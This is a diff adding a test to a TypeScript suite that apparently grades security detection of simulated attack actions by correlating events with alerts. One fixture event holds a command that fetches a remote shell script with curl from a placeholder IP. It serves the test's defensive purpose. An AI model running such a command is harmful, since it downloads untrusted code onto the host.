@@ -123,6 +123,24 @@ describe('verdicts', () => {
     expect(result.evidence.events.map((e) => [e.eventId, e.alertId])).toEqual([['ev-2', 'al-3']]);
   });
 
+  it('Detected: the event joined an alert raised before it (aggregation), which is not its own', () => {
+    // The alert was raised at 11:59:00 for another action; this action's event joined it at 12:00:00.020.
+    const earlier = alert('al-4', { createdAt: '2026-11-25T11:59:00.000Z' });
+    const other = event('ev-0', {
+      alertId: 'al-4',
+      timestamp: '2026-11-25T11:58:58.000Z',
+      command: 'curl -s http://203.0.113.7/x.sh # vigil-ffffffffffffffff',
+    });
+    const joined = event('ev-5', { alertId: 'al-4' });
+    const result = correlateAction(action, pool([[earlier, [other, joined]]]), options);
+    expect(result.verdict).toBe('Detected');
+    expect(result.evidence.alerts).toEqual([]);
+    expect(result.evidence.events.map((e) => [e.eventId, e.alertId])).toEqual([['ev-5', 'al-4']]);
+    // The same alert raised at the event (or after it) is the action's own: Alerted.
+    const own = { ...earlier, createdAt: '2026-11-25T12:00:00.020Z' };
+    expect(correlateAction(action, pool([[own, [other, joined]]]), options).verdict).toBe('Alerted');
+  });
+
   it('Missed: nothing; Prevented: reported blocked, whatever the evidence', () => {
     expect(correlateAction(action, pool([]), options)).toMatchObject({ verdict: 'Missed', result: 'failed' });
     const blocked = { ...action, outcome: 'blocked' as const };
